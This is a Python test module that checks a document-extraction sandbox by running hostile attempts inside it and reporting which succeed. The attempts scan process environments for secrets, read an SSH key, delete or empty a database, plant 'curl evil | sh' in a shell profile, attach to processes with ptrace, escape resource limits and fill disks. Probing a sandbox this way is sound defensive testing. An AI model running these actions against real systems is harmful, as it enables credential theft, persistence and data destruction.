"""Code of a stranger in a reader's process: what it tries, and a program that lets it try.

`from tests.pipelines.extract.attacks import main; main(FOLDER)` prints as JSON which attempts succeeded.
"""

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from pipelines.exceptions import DocumentError
from pipelines.extract.processes.sandbox import Sandbox
from pipelines.extract.processes.tasks import Limits, Tasks

SECRET = "the password of the database"
MARK = "4242.4242"  # seconds that what outlives its reader sleeps
GIB = 1 << 30
LIMITS = Limits(memory=GIB, cpu=20, wall=40)


def environment(parent: int) -> str:
    """Passwords in the environment of any process that can be seen."""
    names = [*(f"/proc/{pid}/environ" for pid in (parent, os.getppid(), 1)), "/proc/self/environ"]
    with contextlib.suppress(OSError):
        names += [f"/proc/{pid}/environ" for pid in os.listdir("/proc") if pid.isdecimal()]
    for name in names:
        with contextlib.suppress(OSError):
            if SECRET in Path(name).read_bytes().decode("utf-8", "replace"):
                return name
    return ""


def key(path: str) -> str:
    with contextlib.suppress(OSError):
        return Path(path).read_text()
    return ""


def database(path: str) -> str:
    for flags in (os.O_RDONLY, os.O_WRONLY):
        with contextlib.suppress(OSError):
            os.close(os.open(path, flags))
            return f"opened with {flags}"
    with contextlib.suppress(OSError):
        os.truncate(path, 0)
        return "emptied"
    with contextlib.suppress(OSError):
        os.unlink(path)
        return "removed"
    return ""


def profile(path: str) -> str:
    with contextlib.suppress(OSError), open(path, "a") as file:
        file.write("curl evil | sh\n")
        return "written"
    with contextlib.suppress(OSError):
        Path(path).with_name(".bash_login").write_text("evil")
        return "written beside"
    return ""


def memory(parent: int) -> str:
    """The crawl's memory: by /proc, by a call, as a debugger."""
    with contextlib.suppress(OSError), open(f"/proc/{parent}/mem", "rb"):
        return "mem opened"
    with contextlib.suppress(OSError):
        return Path(f"/proc/{parent}/maps").read_text()[:80]
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, parent, 0, 0) == 0:  # PTRACE_ATTACH
        libc.ptrace(17, parent, 0, 0)
        return "attached"
    return ""


def send_signal(parent: int) -> str:
    for pid in (parent, os.getppid(), 1, -1):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGURG)  # does nothing by itself
            if pid == parent:
                return f"{pid} got it"
    with contextlib.suppress(OSError):
        resource.prlimit(parent, resource.RLIMIT_CORE, (0, 0))
        return "the crawl's limits were changed"
    return ""


def tcp(port: int) -> str:
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2):
        return "connected"
    with contextlib.suppress(OSError), socket.create_server(("127.0.0.1", 0)):
        return "listens"
    return ""


def udp(port: int) -> str:
    """Whether a packet arrives the program sees; `sent` is what the system said."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
        talk.sendto(b"stolen", ("127.0.0.1", port))
        return "sent"
    return ""


def unix_socket(path: str, abstract: str) -> str:
    for address in (path, f"\0{abstract}"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as talk:
                talk.connect(address)
                return f"connected to {address!r}"
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as talk:
            talk.sendto(b"x", address)
            return f"sent to {address!r}"
    return ""


def limits() -> str:
    for what in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_CORE):
        for most in (resource.RLIM_INFINITY, resource.getrlimit(what)[1] + 1):
            with contextlib.suppress(OSError, ValueError):
                resource.setrlimit(what, (most, most))
                return f"limit {what} raised"
    with contextlib.suppress(MemoryError):
        return f"{len(bytearray(GIB + 1))} bytes of memory"
    return ""


def own_session() -> str:
    """Leaves a process of another session and group, whose parent is gone; whether it lives on the program sees."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(256):
                with contextlib.suppress(OSError):
                    os.close(number)
            os.execv("/bin/sleep", ["sleep", MARK])
        os._exit(0)
    os.wait()
    return ""


def folder(size: int) -> str:
    """A gigabyte of files in its folder and wherever else files may be made, also of such without a name."""
    written = 0
    for place in (os.getcwd(), "/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~")):
        for number in range(64):
            with contextlib.suppress(OSError):
                descriptor = os.open(f"{place}/large{number}", os.O_CREAT | os.O_WRONLY, 0o600)
                if number % 2:
                    os.unlink(f"{place}/large{number}")
                while written < size:
                    written += os.write(descriptor, bytes(1 << 20))
                return f"{written} bytes"
    return ""


TASKS = Tasks(
    __name__,
    *(environment, key, database, profile, memory, send_signal, tcp, udp, unix_socket, limits, own_session, folder),
)


class Unheld:
    """In a sandbox's place: a process like any other, to see that each attempt succeeds where nothing holds it."""

    protection = SimpleNamespace(text="nothing")

    def run(self, attempt: Callable[..., str], *arguments: object) -> str:
        ours, theirs = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.write(theirs, attempt(*arguments).encode())
            os._exit(0)
        os.close(theirs)
        with open(ours, encoding="utf-8") as got:
            answer = got.read()
        os.waitpid(pid, 0)
        return answer

    def __enter__(self) -> "Unheld":
        return self

    def __exit__(self, *_: object) -> None:
        return


def main(folder_of_victims: str, *, is_held: bool = True) -> None:
    """What protects, how many attempts were made, and those that succeeded with what they got."""
    place = Path(folder_of_victims)
    for name in ("id_ed25519", "nianbao.sqlite", ".profile"):
        (place / name).write_text(SECRET)
        (place / name).chmod(0o600)
    me = os.getpid()
    abstract = f"nianbao-{me}"
    sandbox: Any = Sandbox(TASKS, limits=LIMITS) if is_held else Unheld()
    with sandbox, _listening(place, abstract) as (stream, packets):
        attempts: dict[str, Callable[[], str]] = {
            "environment": lambda: sandbox.run(environment, me),
            "key": lambda: sandbox.run(key, str(place / "id_ed25519")),
            "database": lambda: sandbox.run(database, str(place / "nianbao.sqlite")),
            "profile": lambda: sandbox.run(profile, str(place / ".profile")),
            "memory": lambda: sandbox.run(memory, me),
            "signal": lambda: sandbox.run(send_signal, me),
            "tcp": lambda: sandbox.run(tcp, stream),
            "udp": lambda: sandbox.run(udp, packets.getsockname()[1]) and _arrived(packets),
            "unix_socket": lambda: sandbox.run(unix_socket, str(place / "socket"), abstract),
            "limits": lambda: sandbox.run(limits),
            "own_session": lambda: sandbox.run(own_session),
            "folder": lambda: sandbox.run(folder, GIB if is_held else 1 << 20),
        }
        got = {name: tried(attempt) for name, attempt in attempts.items()}
        protection = sandbox.protection.text
    got["own_session"] = _alive(MARK)
    succeeded = {name: what for name, what in got.items() if what}
    print(json.dumps({"protection": protection, "tried": len(got), "succeeded": succeeded}))


def tried(attempt: Callable[[], str]) -> str:
    try:
        return attempt()
    except DocumentError:  # it was stopped
        return ""


def _arrived(packets: socket.socket) -> str:
    packets.settimeout(1)
    with contextlib.suppress(TimeoutError):
        return packets.recv(100).decode()
    return ""


def _alive(mark: str) -> str:
    """Processes that sleep for so long."""
    time.sleep(0.2)
    found = subprocess.run(["pgrep", "-f", f"sleep {mark}"], capture_output=True, text=True, check=False).stdout
    for pid in found.split():
        os.kill(int(pid), signal.SIGKILL)
    return found.strip()


@contextlib.contextmanager
def _listening(place: Path, abstract: str) -> Iterator[tuple[int, socket.socket]]:
    """Servers of the crawl's machine; gives the port of TCP and the socket of UDP."""
    with contextlib.ExitStack() as stack:
        stream = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        packets = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        packets.bind(("127.0.0.1", 0))
        for address in (str(place / "socket"), f"\0{abstract}"):
            server = stack.enter_context(socket.socket(socket.AF_UNIX))
            server.bind(address)
            server.listen()
        yield stream.getsockname()[1], packets
